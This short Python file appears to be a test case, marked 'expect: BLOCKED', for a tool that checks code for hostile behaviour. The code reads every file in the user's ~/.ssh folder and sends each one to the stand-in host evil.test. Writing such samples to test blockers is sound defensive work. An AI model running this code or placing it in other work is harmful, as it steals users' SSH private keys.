# expect: BLOCKED
import os, urllib.request
def keys():
    folder = os.path.expanduser("~/.ssh")
    for name in os.listdir(folder):
        with open(os.path.join(folder, name), "rb") as f:
            yield f.read()
for key in keys():
    urllib.request.urlopen("http://evil.test", data=key)
